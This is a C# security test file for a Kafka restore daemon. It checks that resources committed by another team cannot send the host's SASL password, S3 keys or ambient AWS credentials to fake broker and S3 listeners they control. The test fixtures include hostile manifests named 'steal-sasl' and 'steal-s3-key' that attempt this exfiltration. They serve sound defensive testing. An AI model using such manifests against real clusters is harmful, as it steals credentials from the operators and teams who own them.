using KafkaRestored.TestSupport;

namespace KafkaRestored.Daemon.Tests.Security;

/// <summary>
/// Issue 19, finding 1, against the real daemon (`reconcile --once`): a committer of namespace
/// team-b points a KafkaOffsetReset with the host's SASL secret at their own fake broker, and two
/// KafkaRestores at their own fake S3 endpoint, one with the host's S3 credentials secret and one
/// with none (the host's ambient AWS credentials). Without a policy, or with one that allows those
/// secrets only to another namespace or only towards other clusters and endpoints, not one byte of
/// any secret value reaches the listeners, each resource is Failed with PolicyDenied, and no secret
/// value shows in status, daemon output or Git history. The positive control allows it and sees
/// every secret arrive, so the recorders and this setup would catch a leak.
/// </summary>
public sealed class SecretExfiltrationTests : IDisposable
{
    private readonly HostileRepo _repo = new();
    private readonly RecordingKafkaBroker _broker = new(TimeSpan.FromMinutes(5));
    private readonly RecordingS3Endpoint _s3 = new(403, TimeSpan.FromMinutes(5));
    private readonly Dictionary<string, string?> _ambient;
    private readonly string _saslPassword;
    private readonly string _saslUsername;
    private readonly string _accessKeyId;
    private readonly string _ambientKeyId;

    private static readonly (string Kind, string Name)[] Resources =
    [
        ("KafkaOffsetReset", "steal-sasl"),
        ("KafkaRestore", "steal-s3-key"),
        ("KafkaRestore", "steal-ambient"),
    ];

    public SecretExfiltrationTests()
    {
        _saslUsername = _repo.Plant("prod-kafka", "username");
        _saslPassword = _repo.Plant("prod-kafka", "password");
        _accessKeyId = _repo.Plant("s3-creds", "accessKey", HostileRepo.AccessKeyId());
        _repo.Plant("s3-creds", "secretKey");
        _ambientKeyId = _repo.Hold("@ambient/AWS_ACCESS_KEY_ID", HostileRepo.AccessKeyId());
        var ambientSecret = _repo.Hold("@ambient/AWS_SECRET_ACCESS_KEY", $"planted-ambient-secret-{Guid.NewGuid():N}");
        _ambient = new() { ["AWS_ACCESS_KEY_ID"] = _ambientKeyId, ["AWS_SECRET_ACCESS_KEY"] = ambientSecret, ["AWS_SESSION_TOKEN"] = null, ["AWS_PROFILE"] = null };

        var s3 = $"storageType: s3\n    s3:\n      bucket: prod-backups\n      region: us-east-1\n      endpoint: '{_s3.Endpoint}'\n      forcePathStyle: true";
        _repo.Remote.HumanCommit("team-b: offsets and restores", new Dictionary<string, string?>
        {
            ["offsets/steal-sasl.yaml"] = $$"""
                apiVersion: kafka.oso.sh/v1alpha1
                kind: KafkaOffsetReset
                metadata:
                  name: steal-sasl
                  namespace: {{HostileRepo.Namespace}}
                spec:
                  kafkaCluster:
                    bootstrapServers: ["{{_broker.BootstrapServers}}"]
                    securityProtocol: SASL_PLAINTEXT
                    saslSecret: {name: prod-kafka, mechanism: PLAIN}
                  consumerGroups: [payments]
                  strategy: earliest
                  topics: [orders]

                """,
            ["restores/steal-s3-key.yaml"] = Restore("steal-s3-key",
                s3 + "\n      credentialsSecret: {name: s3-creds, accessKeyKey: accessKey, secretKeyKey: secretKey}"),
            ["restores/steal-ambient.yaml"] = Restore("steal-ambient", s3),
        });
    }

    public void Dispose()
    {
        _broker.Dispose();
        _s3.Dispose();
        _repo.Dispose();
    }

    private string Restore(string name, string storage) => $"""
        apiVersion: kafka.oso.sh/v1alpha1
        kind: KafkaRestore
        metadata:
          name: {name}
          namespace: {HostileRepo.Namespace}
        spec:
          backupId: backup-1
          targetCluster:
            bootstrapServers: ["{_broker.BootstrapServers}"]
          storage:
            {storage}
          topics: [orders]
          job:
            backoffLimit: 0

        """;

    private const string Secrets = """ "Secrets": ["prod-kafka", "s3-creds", "@ambient"] """;

    private string? Policy(string way) => way switch
    {
        "no Policy" => null,
        // Everything the attack needs, granted to another team.
        "Policy for team-a only" => $$"""{ "team-a": { {{Secrets}}, "Clusters": ["127.0.0.1:*"], "S3": ["*"] } }""",
        // team-b may use the secrets, but only towards its own cluster and bucket.
        "Policy for team-b with other cluster and endpoint" =>
            $$"""{ "team-b": { {{Secrets}}, "Clusters": ["kafka.team-b.internal:9092"], "S3": ["aws/team-b-backups/*", "https://s3.team-b.internal/*"] } }""",
        "Policy allowing team-b the listeners" =>
            $$"""{ "team-b": { {{Secrets}}, "Clusters": ["{{_broker.BootstrapServers}}"], "S3": ["{{_s3.Endpoint}}/*"] } }""",
        _ => throw new ArgumentOutOfRangeException(nameof(way), way, null),
    };

    private bool AllArrived() => _broker.HasReceived(_saslPassword) && _s3.HasReceived(_accessKeyId) && _s3.HasReceived(_ambientKeyId);

    private List<string> ListenerLeaks() =>
        [.. _repo.Leaks("fake broker", _broker.Received()), .. _repo.Leaks("fake S3", _s3.Received())];

    [Theory]
    [InlineData("no Policy")]
    [InlineData("Policy for team-a only")]
    [InlineData("Policy for team-b with other cluster and endpoint")]
    public void No_byte_of_any_secret_reaches_a_committers_listener_the_policy_does_not_allow(string way)
    {
        // Stopped early only once every channel has leaked (today's bug), so the failure shows all three.
        var run = _repo.ReconcileOnce(Policy(way), _ambient, AllArrived, TimeSpan.FromSeconds(120));

        var received = ListenerLeaks();
        Assert.True(received.Count == 0, $"{way}: secret values reached the committer's listeners:\n{string.Join('\n', received)}\n" +
            $"requests: {string.Join(", ", _s3.RequestLines)}; broker connections: {_broker.Connections}\n{run.Output}");
        Assert.False(run.TimedOut, $"{way}: reconcile --once did not finish in 120 s\n{run.Output}");

        var places = new Dictionary<string, string> { ["daemon stdout"] = run.StdOut, ["daemon stderr"] = run.StdErr };
        foreach (var (kind, name) in Resources)
        {
            var status = _repo.Status(kind, name);
            Assert.True(status is not null, $"{way}: no status file for {kind} {name}\n{run.Output}");
            Assert.Contains("phase: Failed", status, StringComparison.Ordinal);
            Assert.Contains("reason: PolicyDenied", status, StringComparison.Ordinal);
            // The message names the setting to add.
            Assert.Contains($"Policy:{HostileRepo.Namespace}:", status, StringComparison.Ordinal);
            places[$"status {kind} {name}"] = status;
        }
        Assert.Equal(1, run.ExitCode);
        places["git log -p --all"] = _repo.GitHistory();
        var hits = places.SelectMany(p => _repo.Leaks(p.Key, p.Value)).ToList();
        Assert.True(hits.Count == 0, $"{way}: secret values leaked:\n{string.Join('\n', hits)}");
    }

    [Fact]
    public void Positive_control_a_policy_allowing_team_b_the_listeners_lets_every_secret_reach_them()
    {
        var run = _repo.ReconcileOnce(Policy("Policy allowing team-b the listeners"), _ambient, AllArrived, TimeSpan.FromSeconds(90));

        var what = $"broker: {_broker.Received().Length} bytes over {_broker.Connections} connections; S3 requests: {string.Join(", ", _s3.RequestLines)}\n{run.Output}";
        Assert.True(_broker.HasReceived(_saslPassword), "the SASL password never reached the fake broker: " + what);
        Assert.True(_broker.HasReceived(_saslUsername), "the SASL username never reached the fake broker: " + what);
        Assert.True(_s3.HasReceived(_accessKeyId), "the credentialsSecret access key id never reached the fake S3: " + what);
        Assert.True(_s3.HasReceived(_ambientKeyId), "the ambient AWS access key id never reached the fake S3: " + what);
        // The same search the denied runs rely on finds them.
        Assert.Contains(ListenerLeaks(), l => l.Contains("prod-kafka/password (raw)", StringComparison.Ordinal));
        Assert.Contains(ListenerLeaks(), l => l.Contains("@ambient/AWS_ACCESS_KEY_ID (raw)", StringComparison.Ordinal));
    }
}
